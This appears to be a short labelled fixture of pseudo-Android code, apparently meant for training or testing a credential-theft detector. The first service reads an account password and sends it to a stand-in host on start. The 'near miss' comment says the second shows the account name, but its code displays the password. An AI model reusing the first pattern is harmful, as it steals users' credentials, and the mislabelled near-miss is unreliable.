permissions("GET_ACCOUNTS", "INTERNET")

@service
class Sync(Service):
    def onStartCommand(self, intent, flags, number):
        manager = AccountManager.get(self)
        account = manager.getAccounts()[0]
        self.send(manager.getPassword(account))
        return 1
    def send(self, text: String):
        connection = URL("https://example.org/in").openConnection()
        connection.getOutputStream().write(text.getBytes())

# near miss: shows the name of the account and sends only its own package's name
@service
class Sync(Service):
    def onStartCommand(self, intent, flags, number):
        manager = AccountManager.get(self)
        account = manager.getAccounts()[0]
        Toast.makeText(self, manager.getPassword(account), 1).show()
        self.send(self.getPackageName())
        return 1
    def send(self, text: String):
        connection = URL("https://example.org/in").openConnection()
        connection.getOutputStream().write(text.getBytes())
